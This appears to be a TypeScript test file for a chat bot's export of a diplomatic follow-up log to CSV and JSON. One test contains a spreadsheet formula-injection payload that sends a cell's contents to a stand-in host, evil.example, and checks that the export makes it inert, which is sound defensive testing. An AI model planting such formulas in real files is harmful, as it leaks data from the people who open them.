/**
 * The log as a file: `export` in chat (a CSV attachment, or the command to run where no file can
 * be sent) and `ccm export`. The CSV is read back with a CSV parser, as a spreadsheet would.
 */
import { readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { renderTeams } from '../src/adapters/teams/render.ts';
import { ccm } from './support/ccm.ts';
import { runCcm } from './support/cli.ts';
import { createTestBot, type TestBot, TEST_ADMINS } from './support/harness.ts';

const NOTE = 'Met the ambassador, the deputy and "the legal adviser", in Geneva;\r\nnext: capital visit\nwith the ISU 🤝🇳🇴';
const COLUMNS = ['id', 'date', 'state_iso3', 'state', 'kind', 'level', 'lead', 'note', 'next_step', 'due', 'done', 'logged_by', 'logged_at', 'withdrawn'];

let bot: TestBot;
beforeEach(() => {
  bot = createTestBot({ now: '2026-03-10T09:00:00Z', env: { CCM_ADMINS: `${TEST_ADMINS},shell:ana` } });
  const log = (text: string, as: string) => expect(bot.say(text, as).tone, text).toBe('success');
  log('target add Kenya lead Costa Rica', 'ana');
  log(`meeting Kenya held on 2026-03-02 in capital — ${NOTE}`, 'ana');
  log('contacted Viet Nam on 2026-01-15 via geneva', 'ben');
  log('next Kenya send the model instrument by 2026-03-12', 'ana');
  log('done #3', 'ana');
  log('meeting Indonesia held on 2026-03-03', 'ben');
  log('undo #4', 'ben');
});
afterEach(() => bot.close());

/** CSV read strictly: a record ends only at CRLF, so a line break left unquoted would break its row. */
function readCsv(text: string): Record<string, string>[] {
  expect(text.startsWith('\uFEFF')).toBe(true);
  return parse(text, { bom: true, columns: true, record_delimiter: ['\r\n', '\n'] }) as Record<string, string>[];
}

describe('export in chat', () => {
  it('attaches the whole log as CSV: every entry once, with its columns, withdrawn ones marked', () => {
    const reply = bot.say('export');
    expect(reply.title).toBe('Export of the follow-up log: 4 entries');
    expect(reply.attachment).toMatchObject({ fileName: 'ccm-log-2026-03-10.csv', mediaType: 'text/csv' });
    const rows = readCsv(reply.attachment!.content);
    expect(Object.keys(rows[0]!)).toEqual(COLUMNS);
    expect(rows.map((r) => r.id)).toEqual(['1', '2', '3', '4']);
    expect(rows[0]).toEqual({
      id: '1',
      date: '2026-03-02',
      state_iso3: 'KEN',
      state: 'Kenya',
      kind: 'meeting',
      level: 'capital',
      lead: 'Costa Rica',
      note: NOTE,
      next_step: '',
      due: '',
      done: '',
      logged_by: 'ana',
      logged_at: '2026-03-10T10:00:00+01:00',
      withdrawn: 'no',
    });
    expect(rows[1]).toMatchObject({ state: 'Viet Nam', kind: 'contacted', level: 'geneva', lead: '', logged_by: 'ben' });
    expect(rows[2]).toMatchObject({ kind: 'next_step', next_step: 'send the model instrument', due: '2026-03-12', done: '2026-03-10' });
    expect(rows[3]).toMatchObject({ state: 'Indonesia', withdrawn: 'yes' });
  });

  it('makes text a spreadsheet would run as a formula inert, in CSV only', () => {
    const formula = '=HYPERLINK("https://evil.example/?"&A1,"open")';
    bot.say(`contacted Chad on 2026-03-04 — ${formula}`, 'ana');
    bot.say('next Chad -1+1 call again by 2026-03-20', 'ana');
    const csv = readCsv(bot.say('export since 2026-03-04').attachment!.content).filter((r) => r.state === 'Chad');
    expect(csv.map((r) => [r.note, r.next_step])).toEqual([
      [`'${formula}`, ''],
      ['', "'-1+1 call again"],
    ]);
    // Dates and ids are not text a member typed, and stay as they are.
    expect(csv[0]).toMatchObject({ id: '5', date: '2026-03-04' });
    const { out } = runCcm(bot, 'export', ['--format', 'json', '--since', '2026-03-04']);
    expect((JSON.parse(out) as { state: string; note: string }[]).find((r) => r.state === 'Chad')!.note).toBe(formula);
  });

  it('exports from a date on', () => {
    const reply = bot.say('export since 2026-03-01');
    expect(reply.title).toBe('Export of the follow-up log: 3 entries since 1 Mar 2026');
    expect(readCsv(reply.attachment!.content).map((r) => r.id)).toEqual(['1', '3', '4']);
  });

  it('prints the command to run where no file can be sent, never the log itself', () => {
    const text = bot.sayText('export');
    expect(text).toContain('No file can be sent here. On the machine that runs ccm-bot: `ccm export --out ccm-log-2026-03-10.csv`');
    expect(text).not.toContain('legal adviser');
    // A Teams message cannot carry the file either: the card gives the same command.
    // (The card breaks file names with an invisible word joiner, so Teams makes no link of them.)
    const card = JSON.stringify(renderTeams(bot.say('export'))).replaceAll('\u2060', '');
    expect(card).toContain('ccm export --out ccm-log-2026-03-10.csv');
    expect(card).not.toContain('legal adviser');
  });
});

describe('ccm export', () => {
  it('writes JSON with the same columns, values as they are', () => {
    const { code, out } = runCcm(bot, 'export', ['--format', 'json', '--since', '2026-03-01']);
    expect(code).toBe(0);
    const rows = JSON.parse(out) as Record<string, unknown>[];
    expect(Object.keys(rows[0]!)).toEqual(COLUMNS);
    expect(rows.map((r) => [r.id, r.note === NOTE, r.withdrawn])).toEqual([
      [1, true, false],
      [3, false, false],
      [4, false, true],
    ]);
  });

  it('refuses what it cannot read', () => {
    expect(() => runCcm(bot, 'export', ['--since', 'March'])).toThrow('--since expects a date like 2026-01-01, got "March"');
    expect(() => runCcm(bot, 'export', ['--format', 'xlsx'])).toThrow('--format expects csv or json');
  });

  it('writes the file, readable by its owner only, from the real command line', async () => {
    const out = join(bot.dir, 'log.csv');
    const run = await ccm(['export', '--out', out], { HOME: bot.dir, CCM_DB_PATH: bot.dbPath });
    expect(run.err).toBe('');
    expect(run.out).toBe(`Wrote 4 entries (1 withdrawn, marked) to ${out}.\n`);
    expect(statSync(out).mode & 0o777).toBe(0o600);
    expect(readCsv(readFileSync(out, 'utf8'))[0]?.note).toBe(NOTE);
  });
});
